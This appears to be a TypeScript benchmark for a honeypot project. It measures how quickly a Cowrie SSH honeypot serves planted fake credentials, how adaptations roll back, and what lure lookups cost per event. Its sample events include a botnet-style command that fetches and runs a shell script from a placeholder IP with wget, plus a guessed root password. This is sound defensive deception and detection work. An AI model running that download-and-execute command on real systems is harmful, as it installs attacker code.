import { createHash } from 'node:crypto';
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { EventDetail, SensorEvent } from '@cerberusmesh/contract/sensor-event';
import { type KnownLure, quickHashOf } from '@cerberusmesh/contract/touch';
import { adaptationOf } from '../engine/src/act/cowrie/adaptations/registry.ts';
import { lureBook } from '../engine/src/act/cowrie/lures/book.ts';
import { makeKit } from '../engine/src/act/cowrie/lures/kit.ts';
import { pluginSocketPath } from '../engine/src/act/cowrie/manifest.ts';
import { connectPlugin } from '../engine/src/act/cowrie/plugin/connection.ts';
import { openPreparedCowrie } from '../engine/src/act/cowrie/prepared-cowrie.ts';
import { openShell } from '../engine/src/act/cowrie/shell-visit.ts';
import { createLureIndex } from '../engine/src/assess/touches/lure-index.ts';
import { type RealCowrie, startCowrie } from '../engine/test/support/cowrie.ts';
import { percentiles } from './percentiles.ts';

const adaptEach = 10;
const kinds = ['AWS_CREDENTIALS', 'BANNER_CHANGE', 'ENV_FILE', 'PERSONA_CHANGE'] as const;

/**
 * `npm run bench -- lure [--sessions N]`: a day of visits to a real Cowrie with our plugin, each asking for something, while
 * the honeypot is changed every ten visits. How long a visitor waits for the lure that he asks for, when the next one sees
 * an adaptation, how many were cut off, and what is left after all is taken back. And what a look for lures costs an event.
 */
export async function benchLure({ sessions = 200 }: { sessions?: number }): Promise<object> {
  const cowrie = await startCowrie({ prepare: true, plugin: true });
  try {
    const before = await snapshot(cowrie.dir);
    const day = await aDay(cowrie, sessions);
    const after = await snapshot(cowrie.dir);
    return {
      bench: 'lure',
      sessions,
      ...day,
      bytesDifferentAfterRollback: difference(before, after),
      lookNsPerEvent: lookCost(),
    };
  } finally {
    await cowrie.stop();
  }
}

async function aDay(cowrie: RealCowrie, sessions: number): Promise<object> {
  const sessionOf = new Map<string, string>();
  const line = await connectPlugin({
    socketPath: join(cowrie.dir, pluginSocketPath),
    onPlanted(report) {
      sessionOf.set(report.kit, report.session);
      line.acknowledge(report);
    },
  });
  const traps = lureBook.lures.map(({ name, looksFor }) => ({ name, words: [...looksFor] }));
  await line.ask({ op: 'arm', traps, spared: null });
  // Not by `login`, whose visits end after half a minute.
  const stays = await openShell({
    ...{ host: '127.0.0.1', port: cowrie.sshPort, username: 'root', password: 'a-guess' },
    signal: new AbortController().signal,
  });
  const [lureMs, plainMs, plantMs, adaptationMs]: number[][] = [[], [], [], []];
  const undo: (() => Promise<unknown>)[] = [];
  let cut = 0;
  let unseen = 0;
  for (let number = 0; number < sessions; number++) {
    const kit = makeKit(lureBook, { hostname: 'app-03', domain: 'internal' }, new Date());
    await line.ask({ op: 'stock', kit: kit.id, files: [...kit.files] });
    const visitor = await cowrie.login({ localAddress: `127.0.8.${number % 250}` });
    plainMs?.push(await timed(() => visitor.type('cat /etc/hostname')));
    let shown = '';
    lureMs?.push(
      await timed(async () => {
        shown = await visitor.type('cat ~/.git-credentials');
      }),
    );
    if (!/glpat-\w{20}@/.test(shown)) unseen++;
    const session = await reported(sessionOf, kit.id);
    const files = kit.files.filter(({ trap }) => trap === 'DOCKER_CONFIG');
    plantMs?.push(await timed(() => line.ask({ op: 'plant', session, files })));
    if (number % adaptEach === adaptEach - 1) adaptationMs?.push(await adapt(cowrie, (number / adaptEach) | 0, undo));
    // What was planned and changed while he was here did not cut him off.
    await visitor.type('pwd').catch(() => cut++);
    if (!visitor.isOpen()) cut++;
    visitor.close();
  }
  if (!stays.isOpen()) cut++;
  stays.close();
  for (const takeBack of undo.reverse()) await takeBack();
  line.close();
  return {
    sessionsCut: cut,
    luresNotSeenAtFirstAsk: unseen,
    lureMs: percentiles(lureMs),
    plainCatMs: percentiles(plainMs),
    plantedByEngineMs: percentiles(plantMs),
    adaptations: adaptationMs?.length,
    adaptationVisibleMs: percentiles(adaptationMs),
  };
}

/** The report comes on another way than what the visitor sees. */
async function reported(sessionOf: ReadonlyMap<string, string>, kit: string): Promise<string> {
  for (const deadline = performance.now() + 5_000; performance.now() < deadline; ) {
    const session = sessionOf.get(kit);
    if (session !== undefined) return session;
    await new Promise((resolve) => setImmediate(resolve));
  }
  throw new Error(`the plugin did not report kit ${kit}`);
}

/** From the start of a change until a visitor who came after it has seen it. */
async function adapt(cowrie: RealCowrie, number: number, undo: (() => Promise<unknown>)[]): Promise<number> {
  const adaptation = adaptationOf(kinds[number % kinds.length] ?? 'AWS_CREDENTIALS');
  const opened = await openPreparedCowrie(cowrie.dir);
  if (opened.kind === 'refused') throw new Error(opened.reason);
  const plan = await adaptation.plan({}, opened.value);
  undo.push(async () => {
    const now = await openPreparedCowrie(cowrie.dir);
    const conflict =
      now.kind === 'ok' ? await adaptation.undo(plan, now.value, AbortSignal.timeout(10_000)) : now.reason;
    if (conflict !== undefined) throw new Error(conflict);
  });
  return await timed(async () => {
    const conflict = await adaptation.run(plan, opened.value, AbortSignal.timeout(10_000));
    if (conflict !== undefined) throw new Error(conflict);
    const looks = (await adaptation.looks?.(plan.new)) ?? [];
    const visitor = await cowrie.login({ localAddress: '127.0.7.1', password: 'next' });
    const [look] = looks;
    const [file] = plan.new.files;
    const command = look && 'command' in look ? look.command : `cat ${file?.path}`;
    const expected =
      look && 'command' in look ? look.shows : Buffer.from(file?.content ?? '', 'base64').toString('utf8');
    const shown = await visitor.type(command);
    visitor.close();
    if (shown.trim() !== expected.trim()) throw new Error(`${adaptation.name} was not seen by the next visitor`);
  });
}

/** Ten thousand lures known, and an ordinary command that uses none. */
function lookCost(): number {
  const index = createLureIndex();
  index.add(Array.from({ length: 10_000 }, (_, number) => aLure(number)));
  const commands = [
    'uname -a',
    'cat /proc/cpuinfo | grep name | wc -l',
    'cd /tmp; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh',
  ];
  const events = commands.map((input) => anEvent({ kind: 'command', input, phase: 'typed' }));
  events.push(
    anEvent({ kind: 'login', succeeded: false, username: 'root', password: 'admin123' }),
    anEvent({ kind: 'connect' }),
  );
  const rounds = 200_000;
  let found = 0;
  const run = () => {
    for (let round = 0; round < rounds; round++)
      for (const event of events) found += index.find(event).length + index.findReads(event).length;
  };
  run();
  const started = performance.now();
  run();
  if (found > 0) throw new Error('a lure was found where there is none');
  return Math.round(((performance.now() - started) * 1e6) / (rounds * events.length));
}

function aLure(number: number): KnownLure {
  const secret = createHash('sha256').update(String(number)).digest('hex').slice(0, 20);
  return {
    id: String(number),
    kind: 'password',
    path: '/root/x',
    quickHash: quickHashOf(secret),
    secretHash: createHash('sha256').update(secret).digest('hex'),
    sensor: 'bench',
    plantedAt: '2026-11-22T00:00:00.000Z',
    sessionId: null,
    sourceIp: null,
    isRead: true,
  };
}

function anEvent(detail: EventDetail): SensorEvent {
  const who = { sensor: 'bench', sessionId: 'a', protocol: 'ssh', sourceIp: '192.0.2.1', sourcePort: 1, late: false };
  return { id: '', eventType: '', timestamp: '', epochMs: 0, ...who, detail };
}

async function snapshot(dir: string): Promise<Map<string, Buffer>> {
  const etc = join(dir, 'etc');
  const entries = await readdir(etc, { recursive: true, withFileTypes: true });
  const files = entries.filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name));
  return new Map(await Promise.all(files.map(async (path) => [path, await readFile(path)] as const)));
}

function difference(before: ReadonlyMap<string, Buffer>, after: ReadonlyMap<string, Buffer>): number {
  let bytes = 0;
  for (const path of new Set([...before.keys(), ...after.keys()])) {
    const [a, b] = [before.get(path) ?? Buffer.alloc(0), after.get(path) ?? Buffer.alloc(0)];
    bytes += Math.abs(a.length - b.length);
    for (let at = 0; at < Math.min(a.length, b.length); at++) if (a[at] !== b[at]) bytes++;
  }
  return bytes;
}

async function timed(work: () => Promise<unknown>): Promise<number> {
  const started = performance.now();
  await work();
  return performance.now() - started;
}
